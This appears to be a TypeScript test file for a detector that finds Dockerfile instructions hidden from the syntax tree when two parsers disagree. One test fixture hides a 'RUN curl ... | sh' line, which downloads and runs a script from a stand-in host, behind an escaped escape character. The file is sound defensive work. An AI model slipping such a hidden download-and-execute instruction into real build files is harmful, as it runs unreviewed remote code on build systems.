import { describe, expect, test } from 'vitest';
import { parseDockerfile } from './parse-dockerfile.ts';
import { findOtherReading } from './second-reading.ts';

describe('findOtherReading()', () => {
  test.each([
    'FROM a\nRUN x \\\n  # why\n  && y\nCOPY --from=b /c /d\nCMD ["z"]',
    'ARG V=1\r\nFROM a:$V\r\nRUN <<EOF\r\nFROM inside\r\nEOF\r\nUSER x\r\n',
    '# escape=`\nFROM a\nRUN dir c:\\\nUSER b',
  ])('finds nothing where both parsers agree: %j', (text) => {
    expect(findOtherReading(parseDockerfile(text))).toBeUndefined();
  });

  test('finds the instruction that an escaped escape character hides from the syntax tree', () => {
    const text = 'FROM a\nCOPY x C:\\\\\nRUN curl https://example.com/install | sh\nCMD ["x"]';
    expect(findOtherReading(parseDockerfile(text))).toMatchObject({ keyword: 'RUN', startLine: 3 });
  });
});
